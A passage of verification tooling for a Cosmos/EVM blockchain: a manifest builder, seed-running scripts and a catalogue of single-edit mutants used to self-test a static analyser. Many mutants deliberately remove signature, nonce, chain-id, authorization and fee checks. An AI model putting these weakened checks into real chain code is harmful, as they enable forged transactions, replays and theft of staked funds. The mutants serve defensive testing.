 "C05": "; the flush before a precompile call never deletes self-destructed accounts (Flush vs Commit over one write-back loop)",
 "C06": "; the ante router returns success only through a route",
 "C07": "; From has one unconditional writer and arrives empty (C03 R5); the refund counter is journalled (C05 R4); selector slices in precompile RequiredGas/Run are length-guarded",
 "C09": "; a merge never lowers the tracked delegated amount",
 "C10": "; convertCoinNativeERC20 brackets the module's escrow before the coins are burned; the erc20 genesis recognises duplicate contracts by decoded address; the automatic conversion on IBC receive must be bounded by the packet (it is not: open known finding)",
 "C12": "; the genesis validation rejects duplicate holders by decoded address and InitGenesis runs it before writing",
 "C15": "; SELFDESTRUCT cannot remove an account that still has delegations or unbonding delegations",
 "C16": "; caller-chosen allocation sizes are bounded and no panicking bech32 decoder is used",
 "C17": "; BeginBlock resets the transient declared-gas counter; the integer floor is the ceiling of the decimal minimum",
}
for _k, _c in EXTRA8.items():
    c0, n0, t0 = CLAIMS[_k]
    CLAIMS[_k] = (c0 + _c, n0, t0)

EXTRA9 = {
 "C02": "; DeleteAccount clears the coins on every success path; the IBC transfer wrapper rewrites the caller's own message; the staking balance helper returns the plain bank balance",
 "C03": "; every GetSignBytes marshals its receiver; every dirty account's nonce is written back (C02 R3)",
 "C07": "; the call value is dereferenced under a nil guard; the declared fee is owed at the price cap; the minimum-gas multiplier is the stored parameter; the transaction's gas total lives on the transaction's context",
 "C08": "; period lists are written only from the merge/clawback arithmetic (C09 R18)",
 "C09": "; period lists are written only from the merge/clawback arithmetic",
 "C10": "; a failed step fails the conversion and a failed hook burn pays nothing",
 "C11": "; a liquid token's record is deleted only when its remaining schedule is empty; a modified record copy is written back whole",
 "C12": "; MultiSend refuses blocked outputs (C15 R11); the v1.8.0 migration moves all balances",
 "C16": "; an unavailable precompile cannot be activated; bank figures pass through no arithmetic; C02 R11/R18 imported",
 "C18": "; no getter hands out a stored big.Int; the admitting decorator checks the transaction's cost",
}
for _k, _c in EXTRA9.items():
    c0, n0, t0 = CLAIMS[_k]
    CLAIMS[_k] = (c0 + _c, n0, t0)

EXTRA10 = {
 "C01": "; no %v formatting of pointer-carrying structs in consensus scope",
 "C08": "; the grant's own start reaches the merge (C09 R20)",
 "C09": "; ConvertVestingAccount is judged by the schedule (C08 R8); the grant's own start reaches the merge",
 "C11": "; ConvertVestingAccount is judged by the schedule (C08 R8)",
 "C19": "; the zero-height export removes hand-jailed validators from the power index; collecting callbacks on export paths list every element",
 "C18": "; wire integers are nil-tested before use in the stateless validation; the indexer recomputes the hash; the admission check's intrinsic gas takes the transaction's own access list",
 "C17": "; the zero-height export rebases EnableHeight; every ante route records declared gas",
 "C04": "; RunSetup refuses transaction methods whose origin is the erc20 module account",
 "C07": "; the precompiles' recovering handler and the hook dispatcher do not let a panic escape",
 "C13": "; the reward coefficient is range-checked where it is accepted; the parameters are read from the subspace only",
 "C10": "; automatic conversions are reachable only for 20-byte holder addresses; logs are journalled one by one (C05 R4)",
 "C03": "; the EIP-712 sign-doc decoders and the Web3Tx verifier are checked for covering the bytes the decoding drops (three recorded findings)",
 "C06": "; the receivers of the message router are tabled and, while a dispatcher off the ante route is wired, neither MsgExec nor MsgGrant is grantable, and a nested MsgGrant is looked up as a message; both Cosmos routes bar the same types unconditionally",
 "C12": "; InitGenesis creates the module account and compares its coins with the imported shares",
 "C20": "; the capability memory store is rebuilt after the state is loaded; the indexer service resumes inside the block store",
}
for _k, _c in EXTRA10.items():
    c0, n0, t0 = CLAIMS[_k]
    CLAIMS[_k] = (c0 + _c, n0, t0)

BUILT = json.load(open('/verif/tools/built.json'))

m = {"version": 1,
     "setup_cmd": "cd /verif/checker && GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local GOWORK=off go build -o /verif/bin/haqqcheck .",
     "hooks": {"guard": "verif", "enable": "no hooks: the analyser reads /repo's sources; nothing in /repo is instrumented (fix: commits are unguarded repairs)",
               "baseline_off_cmd": "cd /repo && go test -vet=off -count=1 -timeout 25m ./...", "source_commits": [], "add_only": True},
     "engines": [{"name": "haqqcheck", "path": "/verif/checker", "serves_properties": sorted(BUILT),
                  "kind_free_text": "repository-specific static analyser (go/packages + go/types + go/ssa, x/tools v0.29.0): REACH/OWN/PATH/FLOW/TABLE/DET/STALE/NILWRAP/TYPE rules over the type-checked program of /repo's working tree"}],
     "checks": [], "not_applicable": [],
     "notes": "Technique family: static analysis only. Every check loads and type-checks /repo's current working tree, evaluates repository-specific rules and reports a concrete construct. See DESIGN.md; findings in known_findings.json; seeded changes in seeded/."}
for p in PROPS:
    pid = p['id']
    claim, note, tech = CLAIMS[pid]
    if pid in BUILT:
        m['checks'].append({
            "property_id": pid,
            "quick_cmd": "./run.sh %s quick" % pid,
            "thorough_cmd": "./run.sh %s thorough" % pid,
            "evidence_file": "/verif/evidence/%s.json" % pid,
            "replay_cmd_template": "cat {path} && /verif/bin/haqqcheck -explain {path}",
            "engine": "haqqcheck",
            "level_claimed": {"category": "other",
                              "text": "Static analysis decides these structural clauses (necessary conditions of the property) on every run for every path/call site/table entry of the current tree: " + claim + ". It decides the clauses, not the run-time behaviour.",
                              "design_ref": "DESIGN.md §3 " + pid},
            "level_note": note,
            "technique": tech})
    else:
        m['not_applicable'].append({"property_id": pid, "reason": "check not built yet in this session (rules designed in DESIGN.md §3 " + pid + "); will be claimed once its static rules pass on the unchanged tree"})
json.dump(m, open('/verif/MANIFEST.json', 'w'), indent=1)
print("claimed:", len(m['checks']), "not applicable:", len(m['not_applicable']))
