#!/bin/bash
# usage: confirm_all.sh [seed-src-root]  — confirms every seed under <root>/<Cxx>/<V>/ that has no finished result yet (sequentially)
root="${1:-/tmp/seed-out}"
for d in $(ls -d $root/C*/[A-Z] 2>/dev/null | sort); do
  name=$(echo "$d" | sed -E 's#.*/(C[0-9]+)/([A-Z])$#\1-\2#')
  [ -f "$d/patch.diff" ] || continue
  if grep -q "^DONE" /tmp/confirm/$name.result 2>/dev/null; then continue; fi
  mkdir /tmp/confirm/$name.lock 2>/dev/null || continue   # another loop is on it
  # the go build cache grows by ~2 GB per confirmed seed (every worktree path is a new cache key): trim before the disk fills
  avail=$(df --output=avail -BG / | tail -1 | tr -dc 0-9); if [ "${avail:-0}" -lt 15 ]; then find /root/.cache/go-build -type f -mmin +150 -delete 2>/dev/null; fi
  [ -f "$d/README.md" ] || { rmdir /tmp/confirm/$name.lock; continue; }   # the agent is still writing this seed
  /verif/tools/confirm_seed.sh "$d" "$name" > /tmp/confirm-$name.log 2>&1
  echo "$name: $(tr '\n' ';' < /tmp/confirm/$name.result | cut -c1-300)"
done
