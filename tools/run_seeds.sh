#!/bin/bash
# usage: run_seeds.sh <dir-with-seeds> [property...]   (dir layout: <dir>/<Cxx>[-]<V>/patch.diff or <dir>/<Cxx>/<V>/patch.diff)
# Applies each seeded change to a scratch copy of /repo's working tree (never to /repo itself), runs the
# property's quick check on it with a scratch verif directory (so /verif/evidence is not touched), reverts.
# Prints a detection table. ALSO=<props> runs further properties' checks on each seed (cross-detection).
cd /verif
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local GOWORK=off
src="$1"; shift
./run.sh C14 >/dev/null 2>&1   # make sure the binary is current
S=/tmp/seedrun.$$; V=/tmp/seedverif.$$
trap 'rm -rf $S $V' EXIT
mkdir -p $S $V/evidence
rsync -a --exclude .git /repo/ $S/
ln -s /verif/known_findings.json $V/known_findings.json
ln -s /verif/checker $V/checker
for d in $(ls -d $src/C*/[A-Z] $src/C*-[A-Z] 2>/dev/null | sort); do
  name=$(echo "$d" | sed -E 's#.*/(C[0-9]+)[/-]([A-Z])$#\1-\2#'); prop=${name%%-*}
  if [ $# -gt 0 ] && ! echo "$@" | grep -qw "$prop"; then continue; fi
  if ! (cd $S && git apply "$d/patch.diff" 2>/dev/null); then echo "$name APPLY-FAIL"; continue; fi
  for p in $prop $ALSO; do
    out=$(./bin/haqqcheck -property $p -repo $S -verif $V 2>&1); code=$?
    nv=$(echo "$out" | grep -c "^VIOLATION")
    keys=$(echo "$out" | grep "^  violated" | sed 's/  violated //' | tr '\n' ' ' | cut -c1-260)
    tag=""; [ "$p" != "$prop" ] && tag=" (by $p)"
    if [ $nv -gt 0 ]; then echo "$name DETECTED$tag exit=$code $keys"; elif [ "$p" = "$prop" ]; then echo "$name missed exit=$code"; fi
  done
  (cd $S && git apply -R "$d/patch.diff")
done
