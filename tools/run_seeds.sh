#!/bin/bash
# usage: run_seeds.sh <dir-with-seeds> [property...]   (dir layout: <dir>/<Cxx>[-]<V>/patch.diff or <dir>/<Cxx>/<V>/patch.diff)
# Applies each seeded change to /repo, runs the property's quick check, reverts. Prints a detection table.
cd /verif
src="$1"; shift
for d in $(ls -d $src/C*/[A-Z] $src/C*-[A-Z] 2>/dev/null | sort); do
  name=$(echo "$d" | sed -E 's#.*/(C[0-9]+)[/-]([A-Z])$#\1-\2#'); prop=${name%%-*}
  if [ $# -gt 0 ] && ! echo "$@" | grep -qw "$prop"; then continue; fi
  if [ -n "$(git -C /repo status --porcelain)" ]; then echo "repo dirty, abort"; exit 2; fi
  if ! git -C /repo apply "$d/patch.diff" 2>/dev/null; then echo "$name APPLY-FAIL"; continue; fi
  out=$(./run.sh $prop 2>&1); code=$?
  git -C /repo checkout -- . ; git -C /repo clean -fdq
  nv=$(echo "$out" | grep -c "^VIOLATION")
  keys=$(echo "$out" | grep "^  violated" | sed 's/  violated //' | tr '\n' ' ' | cut -c1-260)
  if [ $nv -gt 0 ]; then echo "$name DETECTED exit=$code $keys"; else echo "$name missed exit=$code"; fi
done
