#!/usr/bin/env python3
"""Imports confirmed seeded changes from /tmp/seed-out + /tmp/confirm into /verif/seeded/<id>/.
A seed is kept only if the confirmation (tools/confirm_seed.sh, run in a scratch worktree of /repo HEAD)
showed: patch applies, builds, existing suite passes (known always-failing client test and the baseline-flaky
p256 suite tolerated), demo fails with the change and passes without it."""
import json, os, re, shutil, subprocess, sys, glob

SRC, CONF, DST = '/tmp/seed-out', '/tmp/confirm', '/verif/seeded'
props = {json.loads(l)['id']: json.loads(l) for l in open('/verif/properties.jsonl')}
head = subprocess.check_output(['git', '-C', '/repo', 'rev-parse', '--short', 'HEAD']).decode().strip()

def needs(readme):
    m = re.search(r'(?is)(what it needs[^\n]*\n.*?)(\n#|\n\*\*|\Z)', readme)
    return (m.group(1).strip()[:900] if m else '')

kept = []
for res in sorted(glob.glob(CONF + '/C*-*.result')):
    name = os.path.basename(res)[:-7]
    pid, var = name.split('-')
    txt = open(res).read()
    ok = all(k in txt for k in ['APPLY: ok', 'BUILD: ok', 'SUITE-WITH-CHANGE: ok', 'DEMO-WITH-CHANGE: fails (expected)', 'DEMO-WITHOUT-CHANGE: passes (expected)'])
    src = f'{SRC}/{pid}/{var}'
    if not ok or not os.path.isdir(src):
        print('skip', name, '(not confirmed)')
        continue
    dst = f'{DST}/{name}'
    shutil.rmtree(dst, ignore_errors=True)
    os.makedirs(dst)
    shutil.copy(f'{src}/patch.diff', f'{dst}/patch.diff')
    if os.path.isdir(f'{src}/demo'):
        shutil.copytree(f'{src}/demo', f'{dst}/demo')
    readme = open(f'{src}/README.md').read() if os.path.exists(f'{src}/README.md') else ''
    open(f'{dst}/README.md', 'w').write(readme)
    demo_pkgs = sorted({os.path.dirname(os.path.relpath(p, f'{src}/demo')) for p in glob.glob(f'{src}/demo/**/*_test.go', recursive=True)})
    meta = {
        'id': name,
        'breaks_property': pid,
        'property_title': props[pid].get('title', ''),
        'origin': 'written by an independent sub-agent that saw only the property text and a scratch worktree (nothing from /verif)',
        'needs_to_manifest': needs(readme),
        'files_touched': sorted(set(re.findall(r'^\+\+\+ b/(\S+)', open(f'{src}/patch.diff').read(), re.M))),
        'demo_packages': demo_pkgs,
        'confirmed_against_repo_commit': (re.search(r'^HEAD: (\w+)', txt, re.M).group(1) if re.search(r'^HEAD: (\w+)', txt, re.M) else head + ' (or its parent deb6a18: confirmation ran while 41bc913 was being committed)'),
        'confirmation': {
            'how': 'tools/confirm_seed.sh in a scratch git worktree of /repo HEAD (removed afterwards)',
            'ran': ['git apply patch.diff', 'go build ./...', 'go test -vet=off -count=1 -timeout 25m ./...  (existing suite, unedited, with the change)',
                    'go test -vet=off -count=1 <demo packages>  with the change (must fail)', 'same without the change (must pass)'],
            'result': [l for l in txt.splitlines() if l and not l.startswith('DEMO-PKGS')],
        },
        'rebased': os.path.exists(f'{src}/patch.original.diff'),
    }
    json.dump(meta, open(f'{dst}/meta.json', 'w'), indent=1)
    kept.append(name)
print('kept', len(kept), kept)
