#!/usr/bin/env python3
"""Catalogue of single-edit mutants for the checker's self-test (DESIGN §2.4).
Each mutant: behaviour-breaking, still compiles; the owning rule must report a NEW violated
obligation whose key contains `expect`. Written to /verif/mutants.json."""
import json

M = []
def m(id, prop, file, find, replace, expect, note="", extra=None):
    d = dict(id=id, property=prop, file=file, find=find, replace=replace, expect=expect, note=note)
    if extra:
        d["extra"] = [dict(find=f, replace=r) for f, r in extra]
    M.append(d)

# ---------------- C01 ----------------
m("c01-unsorted-dirties", "C01", "x/evm/statedb/journal.go",
  "\tsort.Slice(keys, func(i, j int) bool {\n\t\treturn bytes.Compare(keys[i].Bytes(), keys[j].Bytes()) < 0\n\t})\n\treturn keys",
  "\t_ = sort.Slice\n\t_ = bytes.Compare\n\treturn keys", "sortedDirties", "dirty accounts committed in map order")
m("c01-wallclock-coinomics", "C01", "x/coinomics/keeper/inflation.go",
  "currentYear := ctx.BlockTime().Year()", "currentYear := time.Now().Year()", "time.Now", "wall clock instead of block time",
  extra=[("import (\n", "import (\n\t\"time\"\n")])
m("c01-go-in-endblocker", "C01", "x/coinomics/keeper/abci.go",
  "\tif err := k.MintAndAllocate(ctx); err != nil {\n\t\tctx.Logger().Error(\"Failed MintAndAllocateInflation: \", err.Error())\n\t}",
  "\tgo func() {\n\t\tif err := k.MintAndAllocate(ctx); err != nil {\n\t\t\tctx.Logger().Error(\"Failed MintAndAllocateInflation: \", err.Error())\n\t\t}\n\t}()", "go-statement")
m("c01-global-write", "C01", "x/ucdao/keeper/keeper.go",
  "\tif err := k.bk.SendCoinsFromAccountToModule(ctx, sender, types.ModuleName, amount); err != nil {\n\t\treturn err\n\t}\n\n\tfor _, coin := range amount {",
  "\tif err := k.bk.SendCoinsFromAccountToModule(ctx, sender, types.ModuleName, amount); err != nil {\n\t\treturn err\n\t}\n\ttypes.ParamsKey = append(types.ParamsKey, 0)\n\n\tfor _, coin := range amount {", "write-")
m("c01-maxgaswanted-unguarded", "C01", "app/ante/evm/eth.go",
  "if ctx.IsCheckTx() && egcd.maxGasWanted != 0 {", "if egcd.maxGasWanted != 0 {", "maxGasWanted")
m("c01-tps-in-response", "C01", "app/app.go",
  "\t\t\tapp.tpsCounter.incrementSuccess()\n", "\t\t\tapp.tpsCounter.incrementSuccess()\n\t\t\tres.GasUsed += int64(app.tpsCounter.nSuccessful)\n", "tpsCounter", "process-local counter leaks into the DeliverTx response")

# ---------------- C02 ----------------
m("c02-no-flush-distribution", "C02", "precompiles/distribution/distribution.go",
  "\tif err := stateDB.Commit(); err != nil {\n\t\treturn nil, err\n\t}\n", "\t_ = stateDB\n", "flush-before-dispatch")
m("c02-erc20-mints-evm", "C02", "x/erc20/keeper/msg_server.go",
  "err = k.bankKeeper.BurnCoins(ctx, types.ModuleName, coins)", "err = k.bankKeeper.BurnCoins(ctx, \"evm\", coins)", "BurnCoins/evm")
m("c02-mint-without-send", "C02", "x/evm/keeper/statedb.go",
  "\t\tif err := k.bankKeeper.SendCoinsFromModuleToAccount(ctx, types.ModuleName, cosmosAddr, coins); err != nil {\n\t\t\treturn err\n\t\t}\n", "", "paired-send")
m("c02-unblock-precompile", "C02", "precompiles/common/types.go",
  "\t\t\"haqq1qqqqqqqqqqqqqqqqqqqqqqqqqqqqqzqy629ddg\", // Bank precompile 0x0000000000000000000000000000000000000804\n", "", "DefaultPrecompilesBech32")
m("c02-setaccount-skips-balance", "C02", "x/evm/keeper/statedb.go",
  "\tif err := k.SetBalance(ctx, addr, account.Balance); err != nil {\n\t\treturn err\n\t}\n",
  "\tif account.Balance.Sign() > 0 {\n\t\tif err := k.SetBalance(ctx, addr, account.Balance); err != nil {\n\t\t\treturn err\n\t\t}\n\t}\n", "always-sets-balance")

# ---------------- C03 ----------------
m("c03-seq-before-sig", "C03", "app/ante/handler_options.go",
  "\t\tevmante.NewEthSigVerificationDecorator(options.EvmKeeper),\n\t\tevmante.NewEthAccountVerificationDecorator(options.AccountKeeper, options.EvmKeeper),",
  "\t\tevmante.NewEthIncrementSenderSequenceDecorator(options.AccountKeeper),\n\t\tevmante.NewEthSigVerificationDecorator(options.EvmKeeper),\n\t\tevmante.NewEthAccountVerificationDecorator(options.AccountKeeper, options.EvmKeeper),", "EthIncrementSenderSequenceDecorator")
m("c03-drop-nonce-check", "C03", "app/ante/evm/eth.go",
  "\t\tif txData.GetNonce() != nonce {", "\t\tif txData.GetNonce() < nonce {", "nonce-equals-sequence")
m("c03-eip712-skip-secp", "C03", "app/ante/cosmos/eip712.go",
  "\t\tif !secp256k1.VerifySignature(pubKey.Bytes(), sigHash, feePayerSig[:len(feePayerSig)-1]) {",
  "\t\tif len(sigHash) == 0 && !secp256k1.VerifySignature(pubKey.Bytes(), sigHash, feePayerSig[:len(feePayerSig)-1]) {", "secp256k1-verify")
m("c03-eip712-skip-chainid", "C03", "app/ante/cosmos/eip712.go",
  "\t\tif extOpt.TypedDataChainID != signerChainID.Uint64() {", "\t\tif extOpt.TypedDataChainID == 0 && signerChainID.Uint64() != 0 {", "chain-id")
m("c03-latest-signer", "C03", "app/ante/evm/sigverify.go",
  "signer := ethtypes.MakeSigner(ethCfg, blockNum)", "signer := ethtypes.NewLondonSigner(big.NewInt(0))\n\t_, _ = ethCfg, blockNum", "sender-recovered")
m("c03-allow-unprotected", "C03", "app/ante/evm/sigverify.go",
  "if !allowUnprotectedTxs && !ethTx.Protected() {", "if !allowUnprotectedTxs && !ethTx.Protected() && ethTx.Type() != 0 {", "protected")
m("c03-eip712-skip-sequence", "C03", "app/ante/cosmos/eip712.go",
  "\tif sig.Sequence != acc.GetSequence() {", "\tif sig.Sequence > acc.GetSequence() {", "sequence-matches")
m("c03-from-trusted", "C03", "app/ante/evm/setup_ctx.go",
  "\t\tif msgEthTx.From != \"\" {\n\t\t\treturn ctx, errorsmod.Wrapf(errortypes.ErrInvalidRequest, \"invalid From %s, expect empty string\", msgEthTx.From)\n\t\t}\n", "", "from-arrives-empty")

# ---------------- C04 ----------------
m("c04-undelegate-no-origin-check", "C04", "precompiles/staking/tx.go",
  "\tif isCallerDelegator {\n\t\tdelegatorHexAddr = origin\n\t} else if origin != delegatorHexAddr {\n\t\treturn nil, fmt.Errorf(ErrDifferentOriginFromDelegator, origin.String(), delegatorHexAddr.String())\n\t}\n\n\t// no need to have authorization when the contract caller is the same as origin (owner of funds)\n\tif !isCallerOrigin {\n\t\t// Check if the authorization grant exists for the caller and the origin\n\t\tstakeAuthz, expiration, err = authorization.CheckAuthzAndAllowanceForGranter(ctx, p.AuthzKeeper, contract.CallerAddress, delegatorHexAddr, &msg.Amount, UndelegateMsg)",
  "\tif isCallerDelegator {\n\t\tdelegatorHexAddr = origin\n\t}\n\n\t// no need to have authorization when the contract caller is the same as origin (owner of funds)\n\tif !isCallerOrigin {\n\t\t// Check if the authorization grant exists for the caller and the origin\n\t\tstakeAuthz, expiration, err = authorization.CheckAuthzAndAllowanceForGranter(ctx, p.AuthzKeeper, contract.CallerAddress, delegatorHexAddr, &msg.Amount, UndelegateMsg)",
  "Undelegate#identity-guard")
m("c04-redelegate-no-update", "C04", "precompiles/staking/tx.go",
  "\t\tif err := p.UpdateStakingAuthorization(ctx, contract.CallerAddress, delegatorHexAddr, stakeAuthz, expiration, RedelegateMsg, msg); err != nil {\n\t\t\treturn nil, err\n\t\t}",
  "\t\t_, _ = stakeAuthz, expiration", "Redelegate#grant-update-after-spend")
m("c04-approve-granter-from-args", "C04", "precompiles/staking/approve.go",
  "\t\t\tif err = p.grantOrDeleteStakingAuthz(ctx, grantee, origin, coin, authzType); err != nil {",
  "\t\t\tif err = p.grantOrDeleteStakingAuthz(ctx, origin, grantee, coin, authzType); err != nil {", "granter")
m("c04-ics20-grant-for-sender", "C04", "precompiles/ics20/types.go",
  "\tif contract.CallerAddress == origin {\n\t\treturn nil, nil, nil\n\t}\n\n\tauth, expiration, err := authorization.CheckAuthzExists",
  "\tif contract.CallerAddress == origin || len(msg.Memo) > 0 {\n\t\treturn nil, nil, nil\n\t}\n\n\tauth, expiration, err := authorization.CheckAuthzExists", "Transfer#grant-before-spend")
m("c04-delegate-skip-check-small", "C04", "precompiles/staking/tx.go",
  "\tif !isCallerOrigin {\n\t\t// Check if the authorization grant exists for the caller and the origin\n\t\tstakeAuthz, expiration, err = authorization.CheckAuthzAndAllowanceForGranter(ctx, p.AuthzKeeper, contract.CallerAddress, delegatorHexAddr, &msg.Amount, DelegateMsg)",
  "\tif !isCallerOrigin && msg.Amount.Amount.IsPositive() {\n\t\t// Check if the authorization grant exists for the caller and the origin\n\t\tstakeAuthz, expiration, err = authorization.CheckAuthzAndAllowanceForGranter(ctx, p.AuthzKeeper, contract.CallerAddress, delegatorHexAddr, &msg.Amount, DelegateMsg)",
  "Delegate#grant-before-spend")
m("c04-decoder-returns-other-address", "C04", "precompiles/distribution/types.go",
  "\treturn msg, delegatorAddress, nil\n}\n\n// NewMsgWithdrawValidatorCommission", "\treturn msg, common.HexToAddress(validatorAddress), nil\n}\n\n// NewMsgWithdrawValidatorCommission", "message-names-returned-address",
  "decoder of withdrawDelegatorRewards returns an address unrelated to msg.DelegatorAddress")

# ---------------- C05 ----------------
m("c05-commit-always", "C05", "x/evm/keeper/state_transition.go",
  "\t\t} else if commit != nil {", "\t\t}\n\t\tif commit != nil {", "commit-only-if-hooks-ok")
m("c05-message-on-ctx", "C05", "x/evm/keeper/state_transition.go",
  "res, err := k.ApplyMessageWithConfig(tmpCtx, msg, nil, true, cfg, txConfig)", "res, err := k.ApplyMessageWithConfig(ctx, msg, nil, true, cfg, txConfig)", "message-on-cache-ctx")
m("c05-no-hooks", "C05", "app/app.go",
  "\tapp.EvmKeeper = app.EvmKeeper.SetHooks(\n\t\tevmkeeper.NewMultiEvmHooks(\n\t\t\tapp.Erc20Keeper.Hooks(),\n\t\t),\n\t)", "\tapp.EvmKeeper = app.EvmKeeper.SetHooks(\n\t\tevmkeeper.NewMultiEvmHooks(),\n\t)", "evm-hooks")
m("c05-setnonce-unjournaled", "C05", "x/evm/statedb/state_object.go",
  "func (s *stateObject) SetNonce(nonce uint64) {\n\ts.db.journal.append(nonceChange{\n\t\taccount: &s.address,\n\t\tprev:    s.account.Nonce,\n\t})\n\ts.setNonce(nonce)",
  "func (s *stateObject) SetNonce(nonce uint64) {\n\tif nonce > s.account.Nonce+1 {\n\t\ts.db.journal.append(nonceChange{\n\t\t\taccount: &s.address,\n\t\t\tprev:    s.account.Nonce,\n\t\t})\n\t}\n\ts.setNonce(nonce)", "setNonce")
m("c05-revert-ignores-prev", "C05", "x/evm/statedb/journal.go",
  "func (ch refundChange) Revert(s *StateDB) {\n\ts.refund = ch.prev\n}", "func (ch refundChange) Revert(s *StateDB) {\n\ts.refund = 0\n}", "refundChange")
m("c05-commit-on-failed", "C05", "x/evm/keeper/state_transition.go",
  "\tif !res.Failed() {\n\t\treceipt.Status = ethtypes.ReceiptStatusSuccessful", "\tif !res.Failed() || len(res.Ret) > 0 {\n\t\treceipt.Status = ethtypes.ReceiptStatusSuccessful", "commit-only-if-not-failed")

# ---------------- C06 ----------------
m("c06-default-falls-through", "C06", "app/ante/ante.go",
  "\t\t\t\tdefault:\n\t\t\t\t\treturn ctx, errorsmod.Wrapf(\n\t\t\t\t\t\terrortypes.ErrUnknownExtensionOptions,\n\t\t\t\t\t\t\"rejecting tx with unsupported extension option: %s\", typeURL,\n\t\t\t\t\t)",
  "\t\t\t\tdefault:\n\t\t\t\t\t_ = errortypes.ErrUnknownExtensionOptions\n\t\t\t\t\tanteHandler = newCosmosAnteHandler(options)", "unknown-option-rejected")
m("c06-eip712-no-reject", "C06", "app/ante/handler_options.go",
  "func newLegacyCosmosAnteHandlerEip712(options HandlerOptions) sdk.AnteHandler {\n\treturn sdk.ChainAnteDecorators(\n\t\tcosmosante.RejectMessagesDecorator{}, // reject MsgEthereumTxs\n",
  "func newLegacyCosmosAnteHandlerEip712(options HandlerOptions) sdk.AnteHandler {\n\treturn sdk.ChainAnteDecorators(\n", "newLegacyCosmosAnteHandlerEip712#reject-first")
m("c06-gasconsume-no-assert", "C06", "app/ante/evm/eth.go",
  "\t\tmsgEthTx, ok := msg.(*evmtypes.MsgEthereumTx)\n\t\tif !ok {\n\t\t\treturn ctx, errorsmod.Wrapf(errortypes.ErrUnknownRequest, \"invalid message type %T, expected %T\", msg, (*evmtypes.MsgEthereumTx)(nil))\n\t\t}\n\t\tfrom := msgEthTx.GetFrom()",
  "\t\tmsgEthTx, ok := msg.(*evmtypes.MsgEthereumTx)\n\t\tif !ok {\n\t\t\tcontinue\n\t\t}\n\t\tfrom := msgEthTx.GetFrom()", "EthGasConsumeDecorator")
m("c06-no-msggrant-case", "C06", "app/ante/cosmos/authz.go",
  "\t\tcase *authz.MsgGrant:\n\t\t\tauthorization, err := msg.GetAuthorization()\n\t\t\tif err != nil {\n\t\t\t\treturn err\n\t\t\t}\n\n\t\t\turl := authorization.MsgTypeURL()\n\t\t\tif ald.isDisabledMsg(url) {\n\t\t\t\treturn fmt.Errorf(\"found disabled msg type: %s\", url)\n\t\t\t}\n", "", "MsgGrant")
m("c06-recursion-inner-false", "C06", "app/ante/cosmos/authz.go",
  "if err := ald.checkDisabledMsgs(innerMsgs, true, nestedLvl); err != nil {", "if err := ald.checkDisabledMsgs(innerMsgs, isAuthzInnerMsg, nestedLvl); err != nil {", "recursion")
m("c06-reject-only-first", "C06", "app/ante/cosmos/reject_msgs.go",
  "\tfor _, msg := range tx.GetMsgs() {\n\t\tif _, ok := msg.(*evmtypes.MsgEthereumTx); ok {", "\tfor i, msg := range tx.GetMsgs() {\n\t\tif _, ok := msg.(*evmtypes.MsgEthereumTx); ok && i == 0 {", "rejects")
m("c06-web3-routed-to-cosmos", "C06", "app/ante/ante.go",
  "anteHandler = newLegacyCosmosAnteHandlerEip712(options)", "anteHandler = newCosmosAnteHandler(options)", "route/")
m("c06-extension-count", "C06", "app/ante/evm/setup_ctx.go",
  "\tif len(body.ExtensionOptions) != 1 {", "\tif len(body.ExtensionOptions) < 1 {", "one-extension-option")

# ---------------- C07 ----------------
m("c07-eip712-no-minprice", "C07", "app/ante/handler_options.go",
  "\t\tante.NewTxTimeoutHeightDecorator(),\n\t\tcosmosante.NewMinGasPriceDecorator(options.FeeMarketKeeper, options.EvmKeeper),\n\t\tante.NewValidateMemoDecorator(options.AccountKeeper),",
  "\t\tante.NewTxTimeoutHeightDecorator(),\n\t\tante.NewValidateMemoDecorator(options.AccountKeeper),", "newLegacyCosmosAnteHandlerEip712#MinGasPriceDecorator")
m("c07-no-refund-on-vmerror", "C07", "x/evm/keeper/state_transition.go",
  "\tif err = k.RefundGas(ctx, msg, msg.Gas()-res.GasUsed, cfg.Params.EvmDenom); err != nil {",
  "\tif res.Failed() {\n\t\treturn res, nil\n\t}\n\tif err = k.RefundGas(ctx, msg, msg.Gas()-res.GasUsed, cfg.Params.EvmDenom); err != nil {", "refund-on-success")
m("c07-gasused-no-multiplier", "C07", "x/evm/keeper/state_transition.go",
  "gasUsed := math.LegacyMaxDec(minimumGasUsed, math.LegacyNewDec(int64(temporaryGasUsed))).TruncateInt().Uint64()",
  "gasUsed := math.LegacyNewDec(int64(temporaryGasUsed)).TruncateInt().Uint64()", "gas-used-deps")
m("c07-floor-on-tip-only", "C07", "app/ante/evm/fees.go",
  "\t\tif fee.LT(requiredFee) {\n\t\t\treturn ctx, errorsmod.Wrapf(\n\t\t\t\terrortypes.ErrInsufficientFee,\n\t\t\t\t\"provided fee < minimum global fee",
  "\t\tif fee.LT(requiredFee) && txData.TxType() == ethtypes.LegacyTxType {\n\t\t\treturn ctx, errorsmod.Wrapf(\n\t\t\t\terrortypes.ErrInsufficientFee,\n\t\t\t\t\"provided fee < minimum global fee", "EthMinGasPriceDecorator")
m("c07-refund-on-tmpctx", "C07", "x/evm/keeper/state_transition.go",
  "k.RefundGas(ctx, msg, msg.Gas()-res.GasUsed, cfg.Params.EvmDenom)", "k.RefundGas(tmpCtx, msg, msg.Gas()-res.GasUsed, cfg.Params.EvmDenom)", "refund-on-success")
m("c07-verifyfee-skip-basefee", "C07", "x/evm/keeper/fees.go",
  "\tif baseFee != nil && txData.GetGasFeeCap().Cmp(baseFee) < 0 {", "\tif baseFee != nil && isCheckTx && txData.GetGasFeeCap().Cmp(baseFee) < 0 {", "VerifyFee#feecap-vs-basefee")
m("c07-cosmos-floor-simcheck", "C07", "app/ante/cosmos/min_price.go",
  "\tif minGasPrice.IsZero() || simulate {", "\tif minGasPrice.IsZero() || simulate || len(feeCoins) == 0 {", "MinGasPriceDecorator")
m("c07-deduct-other-fee", "C07", "app/ante/evm/eth.go",
  "\t\tif err = egcd.deductFee(ctx, fees, from); err != nil {", "\t\tif err = egcd.deductFee(ctx, fees[:0], from); err != nil {", "deducts-verified-fee")

# ---------------- C12 ----------------
m("c12-stale-order", "C12", "x/ucdao/keeper/keeper.go",
